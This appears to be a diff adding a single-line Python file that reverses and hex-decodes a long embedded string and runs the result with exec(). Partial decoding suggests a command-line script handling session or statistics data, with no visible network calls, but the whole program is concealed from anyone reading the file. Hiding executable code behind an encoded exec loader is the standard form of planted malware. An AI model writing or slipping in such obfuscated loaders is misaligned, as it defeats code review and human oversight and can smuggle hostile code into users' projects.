@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d602020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a09282863757c666e24757f6464737e23797370202020202020202a09292d73747966656e6562602a32276e696e69616d656272202c207d616473756d6964702a32256d6964722b7823707d65746e2e6f637a68247e6962707020202020202020202020202a0a35637c6560202020202020202a09222d776e696e69616d65627b7c2d74696f547966656e65626b7c2d707d616473756d69647b722668247e696270702020202020202020202020202020202a0a3928237d6564796e23747966656e6562602e6960276e696e69616d6562702c24696f547966656e656260227f666020202020202020202020202a0a3673736e2377627160266960202020202020202a0a39246e656e23776271602c24727164737e23776271602c25646f636f51647f65717e23776271682375696275637e227564616562702e696023747966656e6562602c207d616473756d696470227f66602020202a0922276e696e69616d65627c24696f547966656e65626c256d69647228247e69627070202020202020202a0a3673736e23776271602669602020202a0929727f6473656279646e23776271682275646165625972747e6563502d30227564616562702020202a0a092677627168237762716f55637271607e227563727160702d3023776271602020202a092223756e696c602e4f435a40266f6024616564737e69602653534024757074757f422d307c6568602c22256572747f55627f6473722d3e6f69647361602c222673736d2d2228247e656d657762716f5464616e227563727160702020202a09222925667963757c636e696820207d616473756d69647028796e65522d307c6568602c256e6f6e4d347c6571666564602c247e696d35607974702c22246e656d2d2228247e656d657762716f5464616e227563727160702020202a09222925667963757c636e696820207d616473756d69647028796e65522d307c6568602c256e6f6e4d347c6571666564602c247e696d35607974702c2224727164737d2d2228247e656d657762716f5464616e227563727160702020202a092225646f636f51647f65717228247e656d657762716f5464616e227563727160702020202a09222030303032313f51303130353230323f5972747e65637f2972747e6563702e276e25602c29727f647365627964602e6f6963737563702972747e6563522d307c6568602c2229727f6473656279646228247e656d657762716f5464616e227563727160702020202a09222e29727f647365627964602e6f6963737563702972747e65637021602d6f62766023756962756370256d69647021647f6571702160246c6965726562522d3e6f69647079627363756468227563727160547e656d657762714e2563727160776271602d30227563727160702020202a0a39256e6f6e402d30256e6f6e402c702473796c602a36776271682e69616d602665646a0a0a076e696e69616d6562702c207d616473756d696470246c6569697020202020202020202020202a076e696e69616d6562702d3023757f69667562707020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a33757f6966756270702d3d30276e696e69616d656270227f60256e6f6e40237960276e696e69616d65627026696020202020202020202020202a0925646f636f51647f6571782475676e292371647f65717820716d6f576e696e69616d65627f502d30276e696e69616d65627020202020202020202020202a0a39246e65602c24727164737823756c607d61637e266c6563702e69602371647f6571702c207d616473756d696470227f6660202020202020202a056e6f6e402d3023757f696675627070202020202020202a0222222e25676e6168636021647f65717025686470266f6023747966656e65626025686470227566756e65686770292d776e696e69616d6562702a34696f547966656e65626b702c207d616473756d6964782023746c65696952222220202020202020202a0a39256e6f6e402d30256e6f6e402c70247e69602a346e65602c256e6f6e402d30256e6f6e402c70247e69602a3472716473702c227473702a35646f636f51647f6571702c266c65637823756962756370266564602020202a0a0564716473702c2d5224722b54627f63656270246c6569697020202020202020202020202a0b61656272602020202020202020202020202020202a0a346e65602e302d5224722b54627f63656270246e6160256e6f6e40247f6e60237960246e656026696020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a3472716473702c302d5224722b54627f63656270246e6160256e6f6e40247f6e6023796024727164737026696020202020202020202020202a0a092d5223622b54627f636562702c256471647378237275647e657f636f597c6070716f502020202020202020202020202020202a0925647164737829707f63607565646e29707f63602d302564716473702020202020202020202020202020202a0a35637c656020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a09247e656d67656370246567616d61646820247f686370716e6370276e6964656365627070216024757f686479677021647c65644023202020202020202020202020202020202a0a356e6f6e4023796025647164737026696c656020202020202020202020202a0d5221722b54627f636562702d302564716473702020202020202020202020202020202a0a322372202d3d302d522b622b54627f6365627026696020202020202020202020202a0a39246e65602c2472716473782374627f6365627e266c6563702e696024627f63656270227f6660202020202020202a056e6f6e402d30256471647370202020202020202a0222222e2473796c602371647f6571702c6c657660256864702f6470247c6965726562702c24627f636562702465627f647370297275667560227f6660292371647f6571702c207d616473756d6964782023746c65696952222220202020202020202a0a39256e6f6e402d30256e6f6e402c70247e69602a346e65602c256e6f6e402d30256e6f6e402c70247e69602a3472716473702c266c65637823756c607d616370266564602020202a0a05657e69647e6f6360202020202020202020202020202020202020202a0a327f627275464f4540247075636875602020202020202020202020202020202a0b61656272602020202020202020202020202020202020202020202020202020202a047e656d676563702465647075727275647e69602e6160266f60256e696c602473716c6024656471636e6572745023202020202020202020202020202020202020202020202020202020202a0a327f62727545646f6365644e4f435a4e2e6f637a602470756368756020202020202020202020202020202020202020202020202a09256e696c682374616f6c6e2e6f637a60246c656969702020202020202020202020202020202020202020202020202020202a0a3972747020202020202020202020202020202020202020202020202a05657e69647e6f63602020202020202020202020202020202020202020202020202020202a0a356e696c60247f6e6026696020202020202020202020202020202020202020202020202a092820796274737e256e696c602d30256e696c6020202020202020202020202020202020202020202020202a0a36602e6960256e696c60227f6660202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a366023716029292d52256c6966622b5972747e65602c29727f6473656279646e266c6563782e696f6a6e286471607e237f68247e656d6765637f5e65607f6f50286479677020202020202020202020202a0a39246e65602c24727164737823747e656d6765637e266c6563702e69602972747e6560227f6660202020202020202a0a39256e6f6e402d30256e6f6e402c70247e69602a346e65602c256e6f6e402d30256e6f6e402c70247e69602a3472716473702c266c6563782374627f63656270266564602020202a0a04656473656c6563702e627574756270202020202020202a092972747e6568246e656070716e24656473656c65637020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a346e65602e302d522472716473722b5972747e6560246e6160256e6f6e40247f6e602379602d522472716473722b5972747e6560246e6160256e6f6e40247f6e60237960246e656026696020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a3472716473702c302d52246e65622b5972747e6560246e6160256e6f6e40247f6e602379602d52246e65622b5972747e6560246e6160256e6f6e40247f6e6023796024727164737026696020202020202020202020202a0a33756962747e65602e69602972747e6560227f6660202020202020202a0d5b502d3024656473656c656370202020202020202a0a092d756e6f6e402a32246e6562202c256e6f6e402a32247271647372202c256d616e602a32256c6966622b78246e656070716e23756962747e65602020202020202020202020202020202a0a34656875646e69602e6960247f6e60222a776e22202b20256d616e60246e616029222c6e6f637a6e22282864796773746e656e256d616e60246e616029222f5765637228286479677374727164737e256d616e6026696020202020202020202020202a0a392929727f6473656279646e266c6563782279646473796c6e237f68246564727f63702e6960256d616e60227f6660202020202020202a0475697024656875646e6960247f6e60237960227564627f63656270292465686371627360227f6820276e696e6e6572702160266f60247e656d6765637025667964736160256864502320202020202020202a0d73756962747e65602e69602972747e6560227f66602d52256c6966622b5972747e656b702d3024656875646e6960202020202020202a092929727f6473656279646e266c6563782875646e696f54616f6c6f582473796c602d3023756962747e6560202020202020202a0a3473796c602e3d2029256e6f6e402d30256e6f6e402c70247e69602a346e65602c256e6f6e402d30256e6f6e402c70247e69602a3472716473702c266c65637823747e656d67656370266564602020202a0a09727f647365627964602d3029727f6473656279646e266c656370202020202020202a0a39227473702a39727f647365627964602c266c6563782f5f54796e696f5f50266564602020202a0a0222222e227564627f6365625972747e6563502972602e6564747962777029727f647365627964602e6f69637375637021602d6f62766023756962756370256d69647021647f65717023746c6965726562522222202020202a0a3275646165625972747e6563502373716c636a0a0a0928647160702c286471607f507d64782563616c6075627e237f60202020202020202a09223d347e65646e69602c26602c2875646e696e266c656378207d65746e2e6f637a6020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222772202c286471607f507d64782e65607f602864796770202020202020202a02207d647e2d786471607b7226602d30286471607f507d6470202020202020202a09254c49464f5855444e49402c29727f6473656279646e266c6563782e696f6a6e286471607e237f602d302864716070202020202020202a0a39266c6563782875646e696f556671637f50266564602020202a0a056e6f6e402d30247e656d6765637f5e266c656370202020202020202a056e6f6e402d30256c69666f5e266c656370202020202020202a0a09282875646e696f556671637f5e266c656370202020202020202a092d70202020202020202a0c2d522374627f636562722b547e656d6765637f5e266c6563702a322374627f636562722020202020202020202020202a0c2d52246e65622b547e656d6765637f5e266c6563702a32246e65622020202020202020202020202a0c2d522472716473722b547e656d6765637f5e266c6563702a322472716473722020202020202020202020202a0c256d616e6f5a77602a32256c6966622020202020202020202020202a0b78246e656070716e2875646e696e266c656370202020202020202a0a09286471607f5e69616c607825667f6d65627e237f60202020202020202a092928246165627e2362737825647962777e2473746020202020202020202020202a0a347374602371602922226772202c29256d616e6f5a77602c29727f6473656279646e266c6563782e696f6a6e286471607e237f682e65607f6e20796a77602c236273702371602922226272202c286471607f5e69616c60782e65607f602864796770202020202020202a022a776e22202b202d52256c6966622b547e656d6765637f5e266c6563702d30256d616e6f5a7760202020202020202a092d52256c6966622b547e656d6765637f5e266c6563702c29727f6473656279646e266c6563782e696f6a6e286471607e237f602d30286471607f5e69616c6070202020202020202a0a092825637f6c636e256c69666f5e266c656370202020202020202a0e62757475627020202020202020202020202a0a356e6f6e40237960247e656d6765637f5e266c656370266960202020202020202a0a39266c656378247e656d6765637f55637f6c636f50266564602020202a0a056e6f6e402d3024716f547f686370716e637f5473716c6f5e266c656370202020202020202a047e656d67656370297275667560266f6024727164737025686470247160247f686370716e637021602563627f66402320202020202020202a0d70302a32237564797262202c20302a322374627f63656272202c207d616473756d6964702a32246e6562202c207d616473756d6964702a32247271647372202c256d616e602a32256c6966622b702d30247e656d6765637f5e266c656370202020202020202a0922283d266475722d376e69646f636e65602c222772202c29256d616e602c29727f6473656279646e266c6563782e696f6a6e286471607e237f682e65607f602d30256c69666f5e266c656370202020202020202a022c6e6f637a6e2d7466303a3275626d657e6b7f5765637226602d30256d616e60202020202020202a01302b20292875646e696e266c6563782e656c602d302275626d657e60202020202020202a0a39247e69602a307d616473756d6964702c266c656378247e656d6765637f57756e6f5e65607f6f50266564602020202a0a01302d3b202d522374627f636562722b547e656d6765637f5e266c656370202020202020202a09256e696c682e656c602d3b202d522375647972622b547e656d6765637f5e266c656370202020202020202a09282863757c666e256c69666f5e266c656370202020202020202a09256e696c6825647962777e256c69666f5e266c656370202020202020202a022e6c52202b202929222a32202c222c22282d33727f64716271607563702c24627f6365627823707d65746e2e6f637a602d30256e696c60202020202020202a0a3924736964602a34627f636562702c266c65637824627f6365627f55647962777f50266564602020202a0a007d616473756d6964702d302d52246e65622b547e656d6765637f5e266c656370202020202020202a037275647e657f63602d30237275647e657f636f5473716c6f5e266c656370202020202020202a0e6f64756c656b63702d302e6f64756c656b637f5473716c6f5e266c656370202020202020202a0a092d7375676e616863602a322362202c222462202a322b62202c207d616473756d6964702a3224722b7824627f6365627f55647962777f5e266c6563702020202020202020202020202020202a0a3375676e6168636026696020202020202020202020202a0465676e616863602d302d55646f636f51647f65717b5375676e61686360202020202020202020202020202020202020202a0a3465676e616863602669602020202020202020202020202020202a0d75657c6166702d31202928647160782475676e23757f6966756270702669602928237d6564796e2375657c6166702e696025657c6166702c2864716070227f666025657c6166702a386471607b702d302465676e616863602020202020202020202020202020202a092d7b702c25646f636f51647f6571782475676e237275647e657f636f5473716c6f5e266c6563702d3023757f6966756270702020202020202020202020202020202a0a3928237d6564796e237275647e657f63602e69602375657c6166702c25646f636f51647f657170227f666020202020202020202020202a0d7b702d302375676e6168636020202020202020202020202a0a35637c6560202020202020202a007d616473756d6964702d3024716f547f686370716e637f5473716c6f5e266c65637020202020202020202020202a092d7371647f6571702a322172202c222372202a322b62202c207d616473756d6964702a3224722b7824627f6365627f55647962777f5e266c65637020202020202020202020202a0a3920202020202020202a0c61667275647e696f547f686370716e637e266c6563702d3e3024716f547f686370716e637f5473716c6f5e266c6563702d20207d616473756d696470227f6020202020202020202020202a0e6f64756c656b637f5473716c6f5e266c6563702d31202e6f64756c656b6370227f6020202020202020202020202a056e6f6e4023796024716f547f686370716e637f5473716c6f5e266c65637020202020202020202020202a0820266960202020202020202a0a092371647f65717824796c60737f502d30237275647e657f63602c2e6f64756c656b6370202020202020202a0a09207d616473756d696478247e656d6765637f57756e6f5e65607f6f5e266c65637020202020202020202020202a0a356e6f6e40237960247e656d6765637f5e266c656370266960202020202020202a0a0928247e656d6765637f55637f6c636f5e266c65637020202020202020202020202a0a3920202020202020202a03746e6f6365637f547e656d6765637f58716d6e266c6563702d3e302d522472716473722b547e656d6765637f5e266c6563702d20207d616473756d696470227f6020202020202020202020202a03756479726f547e656d6765637f58716d6e266c6563702d3e302d522375647972622b547e656d6765637f5e266c65637020202020202020202020202a0820246e6160256e6f6e40247f6e60237960247e656d6765637f5e266c656370266960202020202020202a0a392473796c602a3371647f6571702c247e69602a307d616473756d6964702c266c656378256c607d61637f55647962777f50266564602020202a0a0928247e656d6765637f55637f6c636f5e266c656370202020202020202a09222d756b702a327f62727560227564796277702972747e6563522668247e696270702020202020202020202020202020202a0a35602371602e6f69647075636875402470756368756020202020202020202020202a092d6564796a28256c607d61637f55647962777f5e266c6563702020202020202020202020202020202a0a3972747020202020202020202020202a0b61656272602020202020202020202020202020202a0a356e6f6e402379602d6564796026696020202020202020202020202a09282475676e25657565717f5e266c6563702d302d6564796020202020202020202020202a0a3565727450256c69686770202020202020202a0a39266c6563782e65727f50266564602020202a0a09282e696f6a6e2461656278647f5e266c656370202020202020202a09256e6f6e482475707e25657565717f5e266c656370202020202020202a0a39266c65637825637f6c6360266564602020202a0a09292371647f6571702c292928256d69647e256d69647025637c6560256e6f6e40247f6e60237960207d616473756d696470266960207d616473756d696478247e6968282475707e25657565717f5e266c656370202020202020202a0a39256e6f6e402d30256e6f6e402c70247e69602a307d616473756d6964702c2473796c602a3371647f6571702c266c65637824627f63656270266564602020202a0a092824727164737e2461656278647f5e266c656370202020202020202a09256572745d3e6f6d656164602c222275647962777d2972747e6563722d356d616e602c2e65727f5e266c65637d347567627164782461656278645e276e69646165627864702d302461656278647f5e266c656370202020202020202a0a056e6f6e402d30237275647e657f636f5473716c6f5e266c656370202020202020202a056e6f6e402d302e6f64756c656b637f5473716c6f5e266c656370202020202020202a056e6f6e402d3024716f547f686370716e637f5473716c6f5e266c656370202020202020202a056e6f6e402d30247e656d6765637f5e266c656370202020202020202a056e6f6e402d30256c69666f5e266c656370202020202020202a092825657565715e2565756571702d3025657565717f5e266c656370202020202020202a0a0929727f6473656279646e266c6563782875646e696f54616f6c6f502d302875646e696e266c656370202020202020202a09256572745d3b6f6f5473796875602c29727f6473656279646e266c65637823727964656b616d6e237f60202020202020202a0a03746e6f6365637f547e656d6765637f58716d602d3023746e6f6365637f547e656d6765637f58716d6e266c656370202020202020202a03756479726f547e656d6765637f58716d602d3023756479726f547e656d6765637f58716d6e266c656370202020202020202a0c61667275647e696f547f686370716e63702d302c61667275647e696f547f686370716e637e266c656370202020202020202a09727f647365627964602d3029727f6473656279646e266c656370202020202020202a0a39202020202a0c20303633302d30247e69602a33746e6f6365637f547e656d6765637f58716d60202020202020202a0c2030303f5030303f51302d30247e69602a33756479726f547e656d6765637f58716d60202020202020202a0c203036302d30247e69602a3c61667275647e696f547f686370716e6370202020202020202a0c227473702a39727f64736562796460202020202020202a0c266c656370202020202020202a082f5f54796e696f5f50266564602020202a0a022222202020202a0e2f4f29402b637964602e6f60237479616770227566756e60207f6f6c60276e696c6c6f6070256864702f63702c2375657565717e6560297c6e6f60292824627f636562702020202a0a0e24616562786470246e657f62776b6361626021602e6f602374627f6365627021647c6564602b20247f686370716e637023716023756c607d61637021647f657170237564796277522222202020202a0a327564627f6365625972747e6563502373716c636a0a0a0922283d266475722d376e69646f636e65602c222272202c28647160782e65607f602e6275747562702020202a0922283d266475722d376e69646f636e65602c22247272202c28647160782e65607f6e20796a77602e627574756270202020202020202a0a39222a776e22282864796773746e656e28647160702669602020202a0a39227473702a3864716078247e656d6765637f5e65607f6f502665646a0a0a0d5b502e62757475627020202020202020202020202a0a327f62727545646f6365644e4f435a4e2e6f637a6024707563687560202020202020202a09266824616f6c6e2e6f637a602e62757475627020202020202020202020202a0a39727470202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222272202c28647160782e65607f6028647967702020202a0d5b502e627574756270202020202020202a0a3928647160782374737968756e286471607e237f60247f6e602669602020202a09254c49464f5855444e49402c29727f647365627964682e696f6a6e286471607e237f602d3028647160702020202a0a3473796c602e3d2029227473702a39727f647365627964682875646e696f54616f6c6f502665646a0a0a037275647e657f63602c29256572745d3379756b6f54727f63702c237e6f64756c656b637823707d65746e2e6f637a602e6275747562702020202a037275647e657f636f51647f6571702d302d592225646f636f51647f657172282475676e21647f65717b537275647e657f6360202020202020202a092e6f64756c656b6378246e656070716e237e6f64756c656b6370202020202020202a0921647f65717821647f65717f54796c60737f502d30237275647e657f636f51647f6571702c2e6f64756c656b6370202020202020202a0a3371647f6571702e696021647f657170227f66602020202a0d7b702c2d5b502d30237275647e657f63602c237e6f64756c656b63702020202a0222222e2e6f63796271607d6f6360227f666024656a796c6169627563702379602e6f64756c656b6370256864702b356c607d616370256c6f6867702160266f6029237275647e657f63602c2e6f64756c656b637820237e6275747562522222202020202a0a356c607574702e3d20292473796c602a3371647f65717824796c60737f502665646a0a0a047c65737562702e6275747562702020202a03747966656e6562602d302d592225646f636f51647f657172282475676e21647f65717b547c6573756270202020202020202a0922276e696e69616d656272282475676e247966656e6562602d302d5929602c247966656e65626824696f547966656e65626f5b53747966656e65626020202020202020202020202a0a392d5b50227f60292d5b502c2223747966656e656262282475676e21647f65717825647162756d657e65602e6960247966656e6562602c2960227f6660202020202020202a0d7b702d3023747966656e656260202020202020202a0a3371647f6571702e696021647f657170227f66602020202a0d7b702d30247c65737562702020202a0a34736964602e3d20292473796c602a3371647f65717820716d6f576e696e69616d65627f502665646a0a0a05657c6166702d302d546c6569666b5d54696f547966656e65626b53747966656e6562602020202020202020202020202020202a0a33747966656e6562602e696024696f547966656e65626026696020202020202020202020202a02276e696e69616d656272202c28647160702d30246c656966602c24696f547966656e6562602020202020202020202020202020202a0d776e696e69616d6562702a34696f547966656e65626b702a34656b63616274702562756770237275647e657f63602c6c616025627f666562602e65647479627770237e6f69637375635023202020202020202020202020202020202a0a35637c656020202020202020202020202a09222f22282e6f69647964727160727e24737562702d30246c656966602c2f502c24696f547966656e6562602020202020202020202020202020202a0a322262202d3d3025607f63637026696020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a05657c6166702d302d547375627b51647f6571702020202020202020202020202020202a0a322172202d3d3025607f63637026696020202020202020202020202a09222f22282e6f696479647271607e28647160702d3024737562702c2f502c25607f63637020202020202020202020202a0a3928237d6564796e237275647e657f63602e696025657c6166702c2864716070227f6660202020202020202a0d70202020202020202a0924736964602c247966656e65626825636e6164737e6963796026696020202020202020202020202a092d5b50227f60292d5b502c2223747966656e656262282475676e21647f65717825647162756d657e65602e6960247966656e6562602c2960227f666020202020202020202020202a047966656e6562602a3929602c247966656e65626824696f547966656e65626f5020202020202020202020202a0b702d3023747966656e656260202020202020202a05657e69647e6f636020202020202020202020202a0a356e6f6e4023796021647f657170266960202020202020202a0925646f636f51647f6571782475676e25646f636f5972602d3021647f657170202020202020202a0a3928237d6564796e2375676e616863602e6960237275647e657f63602c25646f636f51647f657170227f66602020202a0d7371647f6571702e696021647f657170227f666021647f6571702a392225646f636f51647f657172282475676e21647f65717b702d3025646f636f5972602020202a0222222e292563616c60702e6968202371647f657170256864702f647e69602b6361626024627f6365627021647c6564602160266f60237275647e657f636025686470237564796277522222202020202a0a3924736964602a3375676e616863602c2473796c602a3371647f657178237275647e657f636f597c6070716f502665646a0a0a037275647e657f63602c2e6f64756c656b63702e6275747562702020202a05657c6166702d302d59756b6b5e6f64756c656b637020202020202020202020202a0a35637c6560202020202020202a056e6f6e402d302d59756b6b5e6f64756c656b637020202020202020202020202a05657c6166702d302d522d79756b6b7f2172266b537275647e657f636020202020202020202020202a0a3925657c6166702c29756b682275647e657f636f53796f5026696c6560202020202020202a03747966656e6562602d302d59756b6b5e6f64756c656b637020202020202020202020202a09246560707962747378246e656070716e23747966656e6562602020202020202020202020202020202a0661656c602d302d546c6569666b546560707962747370202020202020202020202020202020202020202a056e6f6e402d302661656c6020202020202020202020202020202020202020202020202a0661656c602d302d522d746c6569666b7f2d74696f547966656e65626b7f2262266b537275647e657f636020202020202020202020202020202020202020202020202a0a392661656c602c246c656966682275647e657f636f53796f50266960202020202020202020202020202020202020202a0a3928237d6564796e247966656e6562602e69602661656c602c246c65696660227f66602020202020202020202020202020202a0d7b702d302465607079627473702020202020202020202020202020202a0929602c247966656e65626824696f547966656e65626f502d3024696f547966656e6562602020202020202020202020202020202a05657e69647e6f6360202020202020202020202020202020202020202a09247966656e656268246e656070716e23747966656e656260202020202020202020202020202020202020202a0a3924736964602c247966656e65626825636e6164737e69637960247f6e602669602020202020202020202020202020202a0a3925657c61667825647162756d657e65602e6960247966656e6562602c2960227f666020202020202020202020202a0d5b502d3023747966656e65626020202020202020202020202a0a392473796c602c25657c61667825636e6164737e69637960246e61602223747966656e656262202d3d3029756b60266960202020202020202a0a3928237d6564796e21647f6571702e696025657c6166702c29756b60227f66602020202a0d7b702c2d7b702d30237275647e657f63602c2e6f64756c656b63702020202a0222222e256275686470256e6f6e40237168602e6f64756c656b6370256864702c246c65696660236962756d657e602972756675602f6470286471607021602370716d60237275647e657f63602a39237275647e657f63602c2e6f64756c656b637820237e6275747562522222202020202a0a356c607574702e3d202924736964602a31647f65717821647f65717f54796c60737f502665646a0a0a092c6f6f62602c25657c61667825636e6164737e69637960247f6e60246e6160292924716f6c66602c247e6968202c25657c61667825636e6164737e69637960246e616023544c4549464f595459445e454449402e6960247f6e6029756b602e6275747562702020202a0a3c6f6f62602e3d202925657c6166702c227473702a39756b682275647e657f636f53796f502665646a0a0a092e6f696479637f6070227f602922246962282475676e247966656e656268227473702e6275747562702020202a0a327473702e3d2029247e69602a3e6f696479637f60702c24736964602a347966656e65626824696f547966656e65626f502665646a0a0a0d7225646f636f51647f657172202c222469622b702d3023544c4549464f595459445e4544494a076e696864756d6f6370247e657f63602e6168647022756864716270247966656e656260227f6021647f6571702160297669647e65646960247168647023746c65696660236962756d657e40232a0a022e6f637a6e2875646e6962202d30254c49464f5855444e494a0a0e2e677f60237479602e6f602465646f636564602562602e616360247e656d6765637021602f63702c247f686370716e63702160286479677023747271647370247e656d67656370297275667540232a032a0e247f686370716e637027756e60216023756479627770232a092c6c657e60276e696e62757470246c6569666021602c256d616e6021602c276e6962716560707160247966656e656260227f6021647f657170216820276e69676e61686360232a05637c6560276e696864797e61402e292e2e2e202c22276e696e69616d65627f2e34696f547966656e65626c3f2262282023747966656e65626023747960266f60246e6160232a092e2e2e202c22246563757f2172202c22276e696e69616d65627f2172282021647f6571702160266f6023746c65696660236962756d657e602c6c616025627160237275647e657f6340232a032a037275647e657f63602465676e616863602020202020202d7d7d7275626d657e602a386471607b702a35646f636f51647f65717b702a322362202c222462202a322b62202c247e69602a3224722b702020232a047f686370716e63702371647f6571702c6c65766020202020202020202020202020202020202020202020202020202020202d7d5e2e2e2b502a322172202c222372202a322b62202c247e69602a3224722b702020232a0a33746e6f636563702e6960207d616473756d69647028796e65702160237960222472202c24627f63656270256e6f60237960256e696c602863616540232a032a0925637f6c636f2e6f696471647f62702e6f60246563737562707d6f636820247e656d67656370256679647361602020202020202c6e6f637a6e2230303030303f576563702020232a047e656d67656370246563737562707d6f63602c2465637f6c63602020202a776e2c6e6f637a6e2130303030303f576563702020232a0d5d747e69602a322374627f63656272202c247e69602a32246e6562202c247e69602a32247271647372202c227473702a32256c6966622b7b502020202020202020202020202e6f637a6e2875646e69602020232a0a39727f647365627964602e6f6963737563702972747e656370256e6f60266f6024757f69716c602b6379646d2e6f40232a0a056d69647024727f607d696a076e696461656278647024727f607d696a0379737024727f607d696a05657565717024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a00796a776024727f607d696a09707f636024727f607d696a05637271607762716024727f607d696" ));